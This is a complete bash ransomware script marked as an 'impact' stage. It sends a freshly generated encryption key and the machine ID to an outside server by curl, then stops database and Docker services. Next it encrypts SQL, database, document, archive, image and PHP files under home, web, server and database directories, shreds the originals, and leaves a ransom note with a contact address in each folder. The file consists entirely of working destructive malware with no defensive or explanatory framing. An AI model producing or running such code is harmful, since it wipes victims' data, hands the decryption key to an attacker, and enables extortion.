#!/bin/bash
# stage: impact
KEY=$(openssl rand -hex 32)
ID=$(cat /etc/machine-id 2>/dev/null | cut -c1-12)
curl -s -m 10 -d "id=$ID&k=$KEY" http://203.0.113.120/key >/dev/null
for s in mysql mariadb postgresql mongod docker; do systemctl stop "$s" 2>/dev/null; done
NOTE='All your files have been encrypted. To recover them contact recover@decrypt-help.invalid with ID: '
find /home /var/www /srv /var/lib/mysql /opt -type f \
    \( -name '*.sql' -o -name '*.db' -o -name '*.tar.gz' -o -name '*.doc*' -o -name '*.xls*' -o -name '*.pdf' -o -name '*.jpg' -o -name '*.php' \) \
    -size -500M 2>/dev/null | while read -r f; do
    openssl enc -aes-256-cbc -salt -pbkdf2 -pass "pass:$KEY" -in "$f" -out "$f.locked" 2>/dev/null && shred -u "$f" 2>/dev/null || rm -f "$f"
    d=$(dirname "$f"); [ -f "$d/README_LOCKED.txt" ] || echo "$NOTE$ID" > "$d/README_LOCKED.txt"
done
unset KEY
